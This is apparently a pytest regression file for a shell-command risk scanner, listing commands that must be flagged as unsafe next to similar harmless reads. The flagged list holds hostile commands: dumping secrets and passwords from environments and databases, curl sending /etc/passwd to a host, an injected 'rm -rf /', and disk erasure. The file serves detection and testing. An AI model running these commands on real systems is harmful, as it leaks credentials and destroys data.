"""Forms that once came out safe and act, or show secrets: one line each, with what gave them away."""

from __future__ import annotations

import pytest

from scanner import scan
from schemas.risk import Risk

ACTS = """\
kubectl delete pod x --dry-run=client --dry-run=none
kubectl get secret x --template='{{.data}}'
kubectl get --raw /api/v1/namespaces/x/pods/y/proxy/shutdown
kubectl get "$KIND" x -o yaml
psql -v x='1; drop table y' <<< 'select :x'
mdadm --detail /dev/md0 --stop /dev/md1
tune2fs -l -L label /dev/sdb1
e2fsck -l badblocks /dev/sdb1
hdparm -I --security-erase x /dev/sda
ip link s eth0 down
ip xfrm s flush
sysctl -qp
sysctl -p/tmp/x
nft -f/tmp/x list ruleset
conntrack -L -z
bridge link s dev x
tc -b /tmp/x qdisc show
service mysql stop status
ping -f db1
ansible-inventory --list --output f
mysql --defaults-file=/tmp/my.cnf -e 'select 1'
cat /proc/$PID/environ
xargs -0 -a /proc/1/environ
head -c 512 /dev/sda
declare -p
export
ps auxe
echo $AWS_SECRET_ACCESS_KEY
echo "${DB_PASSWORD}"
printenv VAULT_TOKEN
jq -n env
psql -c 'select rolpassword from pg_authid'
mysql -e 'select * from mysql.user'
redis-cli CONFIG GET requirepass
docker inspect -f '{{.Config.Env}}' api
systemctl show-environment
terraform output -raw db_password
pulumi stack output --show-secrets
unset 'x[$(rm -rf /)]'
curl "http://h/?$(cat /etc/passwd)"
curl -H "X-Data: $(cat notes)" http://h
sudo cat /root/notes
sudo ls""".split("\n")

READS = """\
du -sh *
ps aux | grep [n]ginx
kubectl --kubeconfig /etc/kubernetes/admin.conf get nodes
KUBECONFIG=~/.kube/prod kubectl get pods
NS=prod kubectl get pods -n $NS
PAGER=cat git log -1
sudo tail -n 50 /var/log/syslog
sudo du -sh /data
unset x
curl "http://$(hostname):9090/health"
curl -H "Authorization: Bearer $TOKEN" http://h
ip r s
ip -br a
sysctl -n vm.swappiness
tc -s qdisc show dev eth0
declare -r x=1
echo "$HOME"
echo ${TOKEN:+set}
psql -c "select usename, state from pg_stat_activity"
mysql -e 'select user, host from mysql.user'
echo 'select now()::date' | psql""".split("\n")


@pytest.mark.parametrize("command", ACTS)
def test_it_is_not_safe(command: str) -> None:
    assert scan(command).risk is not Risk.SAFE


@pytest.mark.parametrize("command", READS)
def test_a_read_beside_it_stays_safe(command: str) -> None:
    finding = scan(command)
    assert finding.risk is Risk.SAFE, finding.why


@pytest.mark.parametrize(
    ("command", "risk"),
    [
        ("kubectl apply -f $X", Risk.CAUTION),
        ("kubectl rollout undo $X", Risk.CAUTION),
        ("kubectl rollout $X", Risk.UNKNOWN),
        ("kubectl config $X", Risk.UNKNOWN),
        ("docker volume $X", Risk.UNKNOWN),
        ("terraform state $X", Risk.UNKNOWN),
        ("helm repo $X", Risk.UNKNOWN),
    ],
)
def test_an_unknown_word_is_a_doubt_where_a_longer_verb_would_be_worse(command: str, risk: Risk) -> None:
    assert scan(command).risk is risk
